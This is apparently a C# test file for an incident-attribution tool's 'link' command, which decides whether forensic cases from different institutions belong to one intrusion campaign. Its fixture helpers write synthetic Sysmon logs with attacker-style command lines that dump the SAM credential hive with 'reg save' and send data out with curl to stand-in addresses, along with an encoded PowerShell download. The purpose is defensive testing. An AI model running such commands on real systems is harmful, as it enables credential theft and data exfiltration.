using System.Text.Json;
using System.Text.RegularExpressions;
using Culprit.Cases;
using Culprit.Cli.Attribution;
using Culprit.Incidents;
using Culprit.Knowledge;
using Culprit.SampleMaker.Scenario;
using Culprit.TestSupport;
using Culprit.TestSupport.Evtx;

namespace Culprit.Cli.Tests.Commands;

/// <summary><c>culprit link</c> as a user meets it: the sample's intruder at two institutions, and recordings of others.</summary>
public sealed class LinkTests : IDisposable
{
    private static readonly string Sample = Path.Combine(RepositoryRoot.Path, "samples", "research-lab");

    private readonly TestProgram _program = new();

    public void Dispose() => _program.Dispose();

    [Fact]
    public void One_intruder_at_two_institutions_is_one_campaign_and_another_intruder_is_not()
    {
        string lab = Investigate(Sample, "lab");
        string clinic = Investigate(Play("clinic", static scenario => scenario), "clinic");
        string other = Investigate(MadeUp("WIN-7.other.example", "198.51.100.250"), "other");
        string before = Hash(lab);

        Outcome outcome = _program.Run("link", other, lab, clinic, "--min", "low", "--format", "json");

        Assert.Equal((ExitCodes.Done, ""), (outcome.Code, outcome.Error));
        Assert.Equal(before, Hash(lab));
        using var json = JsonDocument.Parse(outcome.Out);
        JsonElement campaign = Assert.Single(json.RootElement.GetProperty("campaigns").EnumerateArray());
        JsonElement incidents = json.RootElement.GetProperty("incidents");
        Assert.Equal(["clinic", "lab"], campaign.GetProperty("members").EnumerateArray().Select(m => incidents[m.GetInt32()].GetProperty("case").GetString()));
        JsonElement pair = json.RootElement.GetProperty("pairs")[0];
        Assert.Equal("highly_likely", pair.GetProperty("likelihood").GetString());
        Assert.Contains(pair.GetProperty("items").EnumerateArray(), static i => i.GetProperty("value").GetString() == "203.0.113.77" && i.GetProperty("first_events").GetArrayLength() > 0);
        Assert.All(json.RootElement.GetProperty("pairs").EnumerateArray().Skip(1), static p => Assert.True(p.GetProperty("probability").GetDouble() < 0.25));

        string page = _program.Run("link", clinic, lab, other, "--min", "low").Out;
        Assert.StartsWith("2 incidents likely belong to 1 campaign.\n", page, StringComparison.Ordinal);
        Assert.Matches(@"NOT LINKED\n  other #1: nearest (lab|clinic) #1, (remote chance|highly unlikely) \((<1|[1-9][0-9]?)%\)", page);
        Assert.Contains("Base rate: 10% of ", page, StringComparison.Ordinal);
        Assert.Equal(page, _program.Run("link", other, lab, clinic, "--min", "low").Out);
    }

    [Fact]
    public void The_same_tradecraft_from_elsewhere_is_no_more_than_likely()
    {
        string lab = Investigate(Sample, "lab");
        string copycat = Investigate(Play("copycat", static scenario => scenario
            .Replace("203.0.113.77", "192.0.2.55", StringComparison.Ordinal).Replace("203.0.113.91", "192.0.2.91", StringComparison.Ordinal)), "copycat");

        using var json = JsonDocument.Parse(_program.Run("link", lab, copycat, "--format", "json").Out);

        JsonElement pair = Assert.Single(json.RootElement.GetProperty("pairs").EnumerateArray());
        Assert.Contains(pair.GetProperty("likelihood").GetString(), new[] { "realistic_possibility", "likely" });
        Assert.Equal("low", pair.GetProperty("confidence").GetString());
    }

    [Theory]
    [Trait("needs", "corpus")]
    [InlineData("windows-json/credential_access/host/empire_mimikatz_logonpasswords.zip")]
    [InlineData("windows-json/lateral_movement/host/covenant_sc_query_dcerpc_smb_svcctl.zip")]
    [InlineData("evtx/evtx-attack-samples/Command and Control")]
    [InlineData("evtx/evtx-attack-samples/Credential Access")]
    public void Recordings_of_others_are_not_linked_to_the_sample(string recording)
    {
        Assert.SkipUnless(RepositoryRoot.HasShared, "the shared corpus is not here");
        string lab = Investigate(Sample, "lab");
        string recorded = Investigate(Path.Combine(RepositoryRoot.Shared, "corpus", recording), "recorded", "--rules", Path.Combine(RepositoryRoot.Shared, "rules", "sigma"));

        Outcome outcome = _program.Run("link", lab, recorded, "--min", "low", "--format", "json");

        using var json = JsonDocument.Parse(outcome.Out);
        JsonElement incidents = json.RootElement.GetProperty("incidents");
        JsonElement[] across =
        [
            .. json.RootElement.GetProperty("pairs").EnumerateArray()
                .Where(p => incidents[p.GetProperty("first").GetInt32()].GetProperty("case").GetString() != incidents[p.GetProperty("second").GetInt32()].GetProperty("case").GetString()),
        ];
        Assert.NotEmpty(across);
        Assert.All(across, static p => Assert.True(p.GetProperty("probability").GetDouble() < 0.40, p.GetProperty("likelihood_sentence").GetString()));
    }

    [Fact]
    public void One_log_in_two_cases_is_told_as_the_same_evidence()
    {
        string log = MadeUp("PC-1.one.example", "203.0.113.7");
        string a = Investigate(log, "a"), b = Investigate(log, "b");

        Outcome outcome = _program.Run("link", a, b, "--min", "low", "--base-rate", "0.9");

        Assert.Equal((ExitCodes.Done, ""), (outcome.Code, outcome.Error));
        Assert.StartsWith("No incidents are likely one campaign.\n", outcome.Out, StringComparison.Ordinal);
        Assert.Contains("1 pair of them is the same evidence, given twice: no campaign.\n", outcome.Out, StringComparison.Ordinal);
        Assert.Contains("THE SAME EVIDENCE IN TWO CASES\n", outcome.Out, StringComparison.Ordinal);
        Assert.Contains("  a #1: the same evidence as b #1\n", outcome.Out, StringComparison.Ordinal);
        using var json = JsonDocument.Parse(_program.Run("link", a, b, "--min", "low", "--format", "json").Out);
        JsonElement pair = Assert.Single(json.RootElement.GetProperty("pairs").EnumerateArray());
        Assert.True(pair.GetProperty("is_same_evidence").GetBoolean());
        Assert.EndsWith("are the same records: it is the same evidence, not a campaign.", pair.GetProperty("same_evidence").GetString(), StringComparison.Ordinal);
    }

    // Two cases of one name go by their folders; a third one is called as one of these folders.
    [Fact]
    public void Cases_are_told_apart_whatever_they_are_called_and_in_whatever_order_they_are_given()
    {
        string first = Path.Combine(_program.Folder, "cases", "first"), second = Path.Combine(_program.Folder, "cases", "second"), third = Path.Combine(_program.Folder, "cases", "third");
        foreach ((string folder, string name, string address) in new[] { (first, "lab", "203.0.113.7"), (second, "lab", "203.0.113.8"), (third, first, "203.0.113.9") })
        {
            Assert.Equal(ExitCodes.Done, _program.Run("investigate", MadeUp("PC-1", address), "--case", folder, "--case-name", name).Code);
        }

        Outcome outcome = _program.Run("link", first, second, third, "--min", "low", "--format", "json");

        Assert.Equal((ExitCodes.Done, ""), (outcome.Code, outcome.Error));
        using var json = JsonDocument.Parse(outcome.Out);
        Assert.Equal([first, second, third], json.RootElement.GetProperty("incidents").EnumerateArray().Select(static i => i.GetProperty("case").GetString()).Distinct(StringComparer.Ordinal));
        Assert.Equal(outcome.Out, _program.Run("link", third, second, first, "--min", "low", "--format", "json").Out);
    }

    [Fact]
    public void One_address_alone_makes_no_campaign_and_the_page_says_why()
    {
        string a = Investigate(Caller("PC-1.one.example", "203.0.113.7"), "a"), b = Investigate(Caller("PC-2.two.example", "203.0.113.7"), "b");

        string page = _program.Run("link", a, b, "--min", "low").Out;

        Assert.StartsWith("No incidents are likely one campaign; of 1 pair it is a realistic possibility.\n", page, StringComparison.Ordinal);
        Assert.Contains("POSSIBLE, AND NOT ENOUGH TO SAY SO\n  a #1  -  b #1\n", page, StringComparison.Ordinal);
        Assert.DoesNotContain("NOT LINKED", page, StringComparison.Ordinal);
        Assert.Single(Regex.Matches(page, "cap +One domain"));
        string told = OneLine(page);
        Assert.Matches(@"There is a realistic possibility that .+ are one campaign\. The figure is 9[0-9]%\. Confidence in this is low: ", told);
        Assert.Matches(@"for address 203\.0\.113\.7: .+ Events [0-9, ]+ and [0-9, ]+\.", told);
        Assert.Contains("change Something else of the intruder found in both that bears it out", told, StringComparison.Ordinal);
        using var json = JsonDocument.Parse(_program.Run("link", a, b, "--min", "low", "--format", "json").Out);
        JsonElement pair = Assert.Single(json.RootElement.GetProperty("pairs").EnumerateArray());
        Assert.Equal("realistic_possibility", pair.GetProperty("likelihood").GetString());
        Assert.StartsWith("One domain, with all names below it", Assert.Single(pair.GetProperty("caps").EnumerateArray()).GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public void A_campaign_that_hangs_on_one_file_beside_one_domain_is_not_said_to_hold_without_it()
    {
        string a = Investigate(Implant("PC-1.one.example"), "a"), b = Investigate(Implant("PC-2.two.example"), "b");

        string page = OneLine(_program.Run("link", a, b, "--min", "low").Out);

        Assert.StartsWith("2 incidents likely belong to 1 campaign. ", page, StringComparison.Ordinal);
        Assert.Matches("minus the file hash [0-9A-Fa-f]+, which carries most: no campaign remains\\. One domain, with all names below it", page);
        Assert.Contains(" It is likely that ", page, StringComparison.Ordinal);
        Assert.Contains(" Confidence in this is low: without the strongest thing that they share no more than a realistic possibility would be said.", page, StringComparison.Ordinal);
        Assert.Matches("change If the file hash [0-9A-Fa-f]+ was misread, planted or is shared by others", page);
        using var json = JsonDocument.Parse(_program.Run("link", a, b, "--min", "low", "--format", "json").Out);
        JsonElement pair = Assert.Single(json.RootElement.GetProperty("pairs").EnumerateArray()), campaign = Assert.Single(json.RootElement.GetProperty("campaigns").EnumerateArray());
        Assert.Equal("realistic_possibility", pair.GetProperty("likelihood_without_strongest").GetString());
        Assert.Empty(campaign.GetProperty("without_strongest").EnumerateArray());
        Assert.StartsWith("One domain, with all names below it", Assert.Single(campaign.GetProperty("without_strongest_caps").EnumerateArray()).GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public void Evidence_cannot_reach_the_terminal()
    {
        string a = Investigate(MadeUp("PC-1.one\u001b[31m\u202e.example", "203.0.113.7", "198.51.100.7"), "a\u001b[2J");
        string b = Investigate(MadeUp("PC-2.one\u001b[31m\u202e.example", "203.0.113.7", "198.51.100.7"), "b");

        Outcome outcome = _program.Run("link", a, b, "--min", "low", "--base-rate", "0.99");

        Assert.Equal(ExitCodes.Done, outcome.Code);
        Assert.Contains("the same institution", outcome.Out, StringComparison.Ordinal);
        Assert.DoesNotContain('\u001b', outcome.Out);
        Assert.DoesNotContain('\u202e', outcome.Out);
        Assert.Contains(@"\x1b[31m", outcome.Out, StringComparison.Ordinal);
    }

    [Fact]
    public void Wrong_arguments_are_refused_and_say_what_to_do()
    {
        string one = Investigate(MadeUp("PC-1", "203.0.113.7"), "one");

        Assert.Equal(ExitCodes.Usage, _program.Run("link").Code);
        Assert.Equal(ExitCodes.Usage, _program.Run("link", Path.Combine(_program.Folder, "nowhere")).Code);
        Outcome twice = _program.Run("link", one, one);
        Assert.Equal(ExitCodes.Usage, twice.Code);
        Assert.Contains("give each case once", twice.Error, StringComparison.Ordinal);
        Outcome rate = _program.Run("link", one, "--base-rate", "1.5");
        Assert.Equal(ExitCodes.Usage, rate.Code);
        Assert.Contains("--base-rate", rate.Error, StringComparison.Ordinal);
        Assert.Equal(ExitCodes.Usage, _program.Run("link", one, "--knowledge", Path.Combine(_program.Folder, "none")).Code);
        Outcome alone = _program.Run("link", one, "--min", "low");
        Assert.Equal(ExitCodes.Done, alone.Code);
        Assert.StartsWith("Nothing to compare", alone.Out, StringComparison.Ordinal);
    }

    [Fact]
    public void Whoever_interrupts_it_is_told_so()
    {
        string one = Investigate(MadeUp("PC-1", "203.0.113.7"), "one"), two = Investigate(MadeUp("PC-2", "203.0.113.8"), "two");
        using var stopped = new TestProgram { Stopped = true };

        Outcome outcome = stopped.Run("link", one, two, "--min", "low");

        Assert.Equal((ExitCodes.Interrupted, "", "culprit: interrupted\n"), (outcome.Code, outcome.Out, outcome.Error));
    }

    [Fact]
    public void Reading_the_incidents_of_a_case_stops_when_asked_to()
    {
        using var opened = CaseReader.Open(Investigate(MadeUp("PC-1", "203.0.113.7"), "one"));

        Assert.NotEmpty(CaseIncidentsToLink.Of(opened, IncidentSeverity.Low, KnowledgeBase.Embedded, CancellationToken.None));
        Assert.Throws<OperationCanceledException>(() => CaseIncidentsToLink.Of(opened, IncidentSeverity.Low, KnowledgeBase.Embedded, new CancellationToken(canceled: true)));
    }

    [Fact]
    public void A_case_without_an_incident_that_is_compared_is_counted_too()
    {
        string one = Investigate(MadeUp("PC-1", "203.0.113.7"), "one"), two = Investigate(MadeUp("PC-2", "203.0.113.8"), "two");

        Assert.Contains("0 incidents of 2 cases compared, 0 pairs.", _program.Run("link", one, two, "--min", "critical").Out, StringComparison.Ordinal);
    }

    // Nobody's link may stand on a case of which a part is gone.
    [Fact]
    public void A_case_that_lacks_a_segment_is_told_as_damaged()
    {
        string one = Investigate(MadeUp("PC-1", "203.0.113.7"), "one"), two = Investigate(MadeUp("PC-2", "203.0.113.8"), "two");
        Directory.Delete(Path.Combine(two, "segments"), recursive: true);

        Outcome outcome = _program.Run("link", one, two, "--min", "low");

        Assert.Equal((ExitCodes.Failed, ""), (outcome.Code, outcome.Out));
        Assert.Contains("is missing", outcome.Error, StringComparison.Ordinal);
    }

    [Fact]
    public void The_result_goes_to_a_file()
    {
        string one = Investigate(MadeUp("PC-1", "203.0.113.7"), "one"), two = Investigate(MadeUp("PC-2", "203.0.113.8"), "two");
        string file = Path.Combine(_program.Folder, "links.json");

        Outcome outcome = _program.Run("link", one, two, "--min", "low", "--format", "json", "--out", file);

        Assert.Equal((ExitCodes.Done, ""), (outcome.Code, outcome.Out));
        Assert.Equal(_program.Run("link", two, one, "--min", "low", "--format", "json").Out, File.ReadAllText(file));
    }

    private string Investigate(string evidence, string name, params string[] more)
    {
        string folder = Path.Combine(_program.Folder, "cases", name);
        Assert.Equal(ExitCodes.Done, _program.Run(["investigate", evidence, "--case", folder, .. more]).Code);
        return folder;
    }

    // The same intruder at another institution, half a year later: other people, machines and days around the same steps.
    private string Play(string name, Func<string, string> change)
    {
        string scenario = File.ReadAllText(Path.Combine(Sample, "scenario.yml"))
            .Replace("lab.example", name + ".example", StringComparison.Ordinal).Replace("netbios: LAB", "netbios: " + name.ToUpperInvariant(), StringComparison.Ordinal)
            .Replace("seed: research-lab-1", "seed: " + name, StringComparison.Ordinal).Replace("2020-02-", "2020-08-", StringComparison.Ordinal);
        string folder = Path.Combine(_program.Folder, "evidence-" + name);
        EvidenceFolder.Make(_program.Write(name + ".yml", change(scenario)), folder);
        return folder;
    }

    // One process of another kind of intruder.
    private string MadeUp(string computer, string address, string? another = null) => Path.GetDirectoryName(_program.Write(
        $"evidence-{Guid.NewGuid():N}/one.evtx", TestEvidence.Log(computer, $"powershell -enc SQBFAFgA http://{address}/qzx.ps1", $"whoami /all & curl http://{address}/q", $"reg save HKLM\\SAM c:\\users\\public\\s.dat & curl http://{address}/s{(another is null ? "" : $" http://{another}/s")}")))!;

    // One unpublished program that speaks to one domain.
    private string Implant(string computer) =>
        Speaker(computer, @"C:\Users\Public\kqzrunner.exe", "SHA256=" + new string('7', 60) + "ABCD", "kqzone.example.net", 22, ("QueryName", "kqzone.example.net"));

    // A program of Windows that speaks to one address.
    private string Caller(string computer, string address) =>
        Speaker(computer, @"C:\Windows\System32\cmd.exe", "", address, 3, ("Initiated", "true"), ("SourceIp", "10.0.0.5"), ("DestinationIp", address));

    // A program that is told to speak to a host, and does.
    private string Speaker(string computer, string image, string hashes, string host, ushort contact, params (string Name, string Value)[] spoken) => Path.GetDirectoryName(_program.Write($"evidence-{Guid.NewGuid():N}/one.evtx", EvtxWriter.ToBytes(writer =>
    {
        (string Name, string Value)[] process = [("UtcTime", "2024-03-01 12:00:00.000"), ("ProcessGuid", "{747f3d96-1111-5e5a-0000-001000000001}"), ("ProcessId", "4711"), ("Image", image), ("User", "LAB\\alice")];
        foreach (string command in new[] { $"powershell -enc SQBFAFgA http://{host}/qzx.ps1", $@"reg save HKLM\SAM c:\users\public\s.dat & curl http://{host}/s" })
        {
            Write(1, [.. process, ("Company", "-"), ("Product", "-"), ("OriginalFileName", "-"), ("CommandLine", command), ("Hashes", hashes)]);
        }

        Write(contact, [.. process, .. spoken]);

        void Write(ushort id, (string Name, string Value)[] data) => writer.Write(new EvtxEvent
        {
            Provider = "Microsoft-Windows-Sysmon",
            ProviderGuid = new Guid("5770385f-c22a-43e0-bf4c-06f5698ffbd9"),
            EventId = id,
            Version = 5,
            Time = TestEvidence.Start,
            Channel = "Microsoft-Windows-Sysmon/Operational",
            Computer = computer,
            UserSid = "S-1-5-18",
            Data = [.. data],
        });
    })))!;

    private static string OneLine(string page) => Regex.Replace(page, @"\s+", " ");

    private static string Hash(string folder) => string.Join('\n', Directory.EnumerateFiles(folder, "*", SearchOption.AllDirectories).Order(StringComparer.Ordinal)
        .Select(static f => f + Convert.ToHexString(System.Security.Cryptography.SHA256.HashData(File.ReadAllBytes(f)))));
}
